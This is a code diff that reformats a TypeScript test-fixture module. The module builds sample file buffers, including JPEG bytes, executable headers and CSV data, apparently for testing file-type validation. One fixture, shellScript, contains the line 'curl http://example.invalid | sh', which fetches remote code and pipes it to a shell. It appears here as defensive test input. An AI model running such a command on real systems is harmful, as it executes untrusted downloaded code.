@@ -120,18 +120,29 @@ export const png = (): Buffer =>
     'hex',
   );
 
-export const jpeg = (): Buffer => Buffer.concat([Buffer.from('ffd8ffe000104a46494600', 'hex'), Buffer.alloc(64), Buffer.from('ffd9', 'hex')]);
+export const jpeg = (): Buffer =>
+  Buffer.concat([Buffer.from('ffd8ffe000104a46494600', 'hex'), Buffer.alloc(64), Buffer.from('ffd9', 'hex')]);
 
 /** A Windows executable header (what a renamed .exe starts with). */
 export const windowsExecutable = (): Buffer =>
-  Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from('PE\0\0')]);
+  Buffer.concat([
+    Buffer.from('MZ'),
+    Buffer.alloc(58),
+    Buffer.from([0x80, 0, 0, 0]),
+    Buffer.alloc(64),
+    Buffer.from('PE\0\0'),
+  ]);
 
-export const elfExecutable = (): Buffer => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(57)]);
+export const elfExecutable = (): Buffer =>
+  Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(57)]);
 
-export const machOExecutable = (): Buffer => Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(28)]);
+export const machOExecutable = (): Buffer =>
+  Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(28)]);
 
 export const shellScript = (): Buffer => Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n');
 
-export const csv = (): Buffer => Buffer.from('customer_id,amount,start_date,period\nc1,100,2024-01-01,monthly\n');
+export const csv = (): Buffer =>
+  Buffer.from('customer_id,amount,start_date,period\nc1,100,2024-01-01,monthly\n');
 
-export const dataUrl = (mime: string, data: Buffer): string => `data:${mime};base64,${data.toString('base64')}`;
+export const dataUrl = (mime: string, data: Buffer): string =>
+  `data:${mime};base64,${data.toString('base64')}`;
